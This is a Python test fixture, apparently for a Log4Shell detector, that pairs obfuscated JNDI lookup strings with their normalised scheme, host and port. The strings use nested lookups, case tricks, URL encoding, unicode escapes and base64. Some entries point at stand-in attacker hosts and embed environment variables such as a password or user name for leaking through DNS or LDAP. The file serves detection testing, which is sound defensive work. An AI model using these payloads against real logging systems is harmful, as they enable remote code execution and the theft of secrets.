"""Lookup strings shared by the table tests and the capture tests: every obfuscation the issue
names and every JNDI scheme, with what they must resolve to."""

from __future__ import annotations

import base64

B64 = base64.b64encode(b"${jndi:ldap://b64.example:1389/x}").decode()

# (payload, normalised form, scheme, host, port)
OBFUSCATED = [
    ("${jndi:ldap://h.example:1389/a}", "${jndi:ldap://h.example:1389/a}", "ldap", "h.example",
     1389),
    ("${${lower:j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${j${upper:n}di:rmi://h:1099/a}", "${jndi:rmi://h:1099/a}", "rmi", "h", 1099),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h/a}", "${jndi:ldap://h/a}",
     "ldap", "h", 389),
    ("${${::::::::::-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${:  : ::-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${env:NOPE:-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h/a}", "${jndi:ldap://h/a}",
     "ldap", "h", 389),
    ("${jnd${sys:X:-i}:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${date:'j'}${date:'n'}di:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${abc:def:ghi:-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${lower:${lower:jndi}}:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${JnDi:LdAp://H.Example:1389/a}", "${jndi:ldap://H.Example:1389/a}", "ldap", "H.Example",
     1389),
    ("${jnd${upper:\u0131}:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("%24%7Bjndi%3Aldap%3A%2F%2Fh%3A1389%2Fa%7D", "${jndi:ldap://h:1389/a}", "ldap", "h", 1389),
    ("%2524%257Bjndi%253Aldap%253A%252F%252Fh%253A1389%252Fa%257D", "${jndi:ldap://h:1389/a}",
     "ldap", "h", 1389),
    ("%2524%257B%25%36%41ndi:ldap://h/a%257D", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("%24%7B%5Cu006Andi:ldap://h/a%7D", "${jndi:ldap://h/a}", "ldap", "h", 389),
    (f"${{base64:{B64}}}", "${jndi:ldap://b64.example:1389/x}", "ldap", "b64.example", 1389),
    ("\\u0024\\u007b\\u006a\\u006e\\u0064\\u0069:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h",
     389),
    ("${jndi:ldap://127.0.0.1#evil.example:1389/a}", "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
     "ldap", "127.0.0.1#evil.example", 1389),
    ("${jndi:dns://10.10.10.31/${env:POC_PASSWORD}}", "${jndi:dns://10.10.10.31/${env:POC_PASSWORD}}",
     "dns", "10.10.10.31", 53),
    ("${jndi:ldap://${env:USER}.attacker.example/a}",
     "${jndi:ldap://${env:USER}.attacker.example/a}", "ldap", "${env:USER}.attacker.example", 389),
    ("${jndi:ldap://[2001:db8::5]:1389/a}", "${jndi:ldap://[2001:db8::5]:1389/a}", "ldap",
     "2001:db8::5", 1389),
]

SCHEMES = [("ldap", 389), ("ldaps", 636), ("rmi", 1099), ("dns", 53), ("iiop", 900),
           ("corba", 2809), ("nds", 524), ("nis", 111), ("http", 80)]
